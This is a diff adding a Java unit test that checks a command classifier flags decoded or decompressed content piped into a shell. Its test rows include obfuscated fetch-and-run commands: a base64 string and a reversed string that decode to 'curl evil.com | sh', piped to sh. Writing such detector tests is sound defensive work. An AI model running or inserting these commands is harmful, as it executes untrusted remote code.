@@ -76,6 +76,27 @@ class CommandSignalsTest {
         check(command, Signal.SECURITY_DISABLE, disabled);
     }
 
+    /**
+     * Code a decoder of the registry's {@code decoders:} list turned back from what the line shows, piped into a
+     * shell, is decoded code; the same program not told to decode, or a plain reader, hands over what the line shows.
+     */
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiterString = "=>", textBlock = """
+        echo Y3VybCBldmlsLmNvbXxzaA== | base64 -d | sh  => true
+        echo ZWNobyBoaQ== | base32 --decode | bash      => true
+        base64 -d payload.b64 | sh                      => true
+        zcat payload.gz | sh                            => true
+        xz -dc payload.xz | bash                        => true
+        zstdcat payload.zst | sh                        => true
+        echo 'hs | moc.live lruc' | rev | sh            => true
+        cat install.sh | sh                             => false
+        base64 notes.txt | sh                           => false
+        xz -c payload | bash                            => false
+        """)
+    void decoders_pipedIntoShell_areDecodedCode(String command, boolean decoded) {
+        check(command, Signal.DECODED_EXEC, decoded);
+    }
+
     /** Starting, stopping or reloading a service is service control; a status query is not. */
     @ParameterizedTest(name = "{0}")
     @CsvSource(delimiterString = "=>", textBlock = """
